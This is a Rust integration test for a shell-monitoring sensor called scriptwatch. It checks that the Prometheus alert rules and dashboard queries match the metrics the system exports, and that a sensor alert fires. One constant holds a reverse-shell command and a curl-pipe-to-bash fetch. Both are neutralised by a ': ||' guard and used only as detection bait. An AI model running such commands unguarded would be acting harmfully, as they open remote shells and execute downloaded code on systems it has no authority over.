//! Alerts and dashboard ask for what a real run has, and a real Prometheus understands them.

use std::{
    collections::BTreeSet,
    fs,
    path::{Path, PathBuf},
};

use e2e::{collectors, daemon, node::Node, prometheus::Prometheus, request, shell};

/// Malicious by any model, and inert: `:` runs instead.
const ATTACK: &str = ": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/x | bash";

fn chart(file: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../deploy/chart/files").join(file)
}

/// The names of metrics in a text.
fn metrics_of(text: &str) -> BTreeSet<String> {
    let words = text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'));
    let ours =
        |word: &&str| word.starts_with("scriptwatch_sensor_") || word.starts_with("scriptwatch_collector_");
    words.filter(ours).map(str::to_owned).collect()
}

#[test]
fn alerts_and_dashboard_ask_for_what_there_is_and_an_alert_fires() {
    let dir = tempfile::tempdir().expect("a directory");
    let admin = format!("127.0.0.1:{}", daemon::free_port());
    let lines = dir.path().join("lines");
    let args = ["--plaintext", "--admin-listen", &admin, "--json-lines", lines.to_str().expect("a path")];
    let (_collector, port) = collectors::start_with(dir.path(), "port", 0, &args).expect("a collector");
    // More shells than are followed at once: what it could not see is told.
    let to = format!("http://127.0.0.1:{port}");
    let node = Node::start_to(&[&to], &["--max-shells", "2"]).expect("a node");
    shell::run("/bin/bash", &["-c", ATTACK]).expect("a shell");
    shell::run("/bin/bash", &["-c", "/bin/bash -c /bin/true; true"]).expect("shells");
    let sensor = node.admin_address().expect("an address");
    let rules = chart("alerts.yaml");
    let prometheus = Prometheus::start(dir.path(), &[&admin, &sensor], &rules).expect("a server");
    let firing = |name: &str| {
        let alerts = prometheus.ask("alerts").expect("alerts")["data"]["alerts"].clone();
        let alerts = alerts.as_array().cloned().unwrap_or_default();
        alerts.iter().any(|alert| alert["labels"]["alertname"] == name && alert["state"] == "firing")
    };
    daemon::wait_until("an alert", || firing("ScriptwatchSensorImpaired"));
    assert!(!firing("ScriptwatchSensorSilent") && !firing("ScriptwatchFindingsDropped"));

    // Each rule is understood, and was looked at.
    let groups = prometheus.ask("rules").expect("rules")["data"]["groups"].clone();
    let of_groups = groups.as_array().expect("groups").iter();
    let all: Vec<_> =
        of_groups.flat_map(|group| group["rules"].as_array().cloned().unwrap_or_default()).collect();
    assert!(all.len() > 8, "{groups}");
    for rule in &all {
        assert_eq!(rule["health"], "ok", "{rule}");
    }
    // And what rules and dashboard ask for is there.
    let said = request::get(&admin, "/metrics") + &request::get(&sensor, "/metrics");
    let dashboard = fs::read_to_string(chart("dashboard.json")).expect("a dashboard");
    let parsed: serde_json::Value = serde_json::from_str(&dashboard).expect("JSON");
    let wanted = metrics_of(&(fs::read_to_string(rules).expect("rules") + &dashboard));
    assert!(wanted.len() > 15, "{wanted:?}");
    let there = metrics_of(&said);
    let missing: Vec<&String> = wanted.difference(&there).collect();
    assert!(missing.is_empty(), "{missing:?} are asked for and not there");
    for panel in parsed["panels"].as_array().expect("panels") {
        for target in panel["targets"].as_array().expect("targets") {
            let query = target["expr"].as_str().expect("a query").replace("$__rate_interval", "1m");
            let query: Vec<String> = query.bytes().map(|byte| format!("%{byte:02X}")).collect();
            let answer = prometheus.ask(&format!("query?query={}", query.concat())).expect("an answer");
            assert_eq!(answer["status"], "success", "{target}: {answer}");
        }
    }
}
